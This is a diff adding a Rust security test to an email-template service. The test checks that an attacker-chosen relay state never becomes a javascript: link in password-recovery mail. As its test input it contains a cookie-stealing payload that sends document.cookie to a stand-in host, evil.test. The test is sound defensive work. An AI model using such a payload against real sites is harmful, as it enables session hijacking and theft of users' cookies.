@@ -16,6 +16,7 @@ both_backends!(
     previews_and_the_test_send_work,
     brands_and_templates_are_listed_in_okta_shapes,
     another_server_process_renders_a_change_without_a_restart,
+    a_state_chosen_by_an_attacker_never_becomes_a_javascript_link,
 );
 
 async fn customize(app: &crate::helpers::TestApp, template: &str, body: Value) -> reqwest::Response {
@@ -227,4 +228,32 @@ async fn another_server_process_renders_a_change_without_a_restart(backend: latc
     .await
     .expect("delivered by one of the two workers");
     assert_eq!(delivered.subject.as_deref(), Some("Changed elsewhere"));
+}
+
+/// `state` is the relying party's, so anyone can choose it (VSCHAR, up to 512 chars). A custom
+/// template that uses it as a whole link gets `#` instead of a `javascript:` URL; the recipe's
+/// link, whose scheme the template fixes, still carries it percent-encoded (security-checklist
+/// LNK-1, EML-2).
+async fn a_state_chosen_by_an_attacker_never_becomes_a_javascript_link(backend: latchkey_store::testing::Backend) {
+    let app = spawn_app(backend).await;
+    let body = r#"<html><body><p>Code ${oneTimePassword}.</p>
+<p><a id="back" href="${request.relayState}">Back to the app</a></p>
+<p><a id="reset" href="https://app.example/magic-link/callback?otp=${oneTimePassword}&state=${request.relayState}">Reset</a></p></body></html>"#;
+    let response = customize(&app, "ForgotPassword", json!({"language": "en", "subject": "Reset", "body": body})).await;
+    assert_eq!(response.status(), 201);
+
+    app.create_user("relay@example.com").await;
+    let hostile = "JavaScript:fetch('//evil.test/'+document.cookie)";
+    app.start_recovery("relay@example.com", hostile).await;
+    let mail = app.wait_for_mail("relay@example.com", 1).await.remove(0);
+    let text = mail.text.expect("a text part derived from the HTML");
+    assert!(!text.to_ascii_lowercase().contains("javascript:"), "nor in the text part: {text}");
+    let html = mail.html.expect("html");
+    assert!(html.contains(r##"<a id="back" href="#">Back to the app</a>"##), "{html}");
+    assert!(!html.to_ascii_lowercase().contains("javascript:"), "no javascript: URL anywhere: {html}");
+    let start = html.find("https://app.example/magic-link/callback?").expect("the recipe link");
+    let href = &html[start..html[start..].find('"').map(|e| start + e).expect("end of href")];
+    let url = url::Url::parse(&href.replace("&amp;", "&")).expect("a URL");
+    let state = url.query_pairs().find(|(k, _)| k == "state").map(|(_, v)| v.into_owned());
+    assert_eq!(state.as_deref(), Some(hostile), "the state itself still reaches the app, as data");
 }
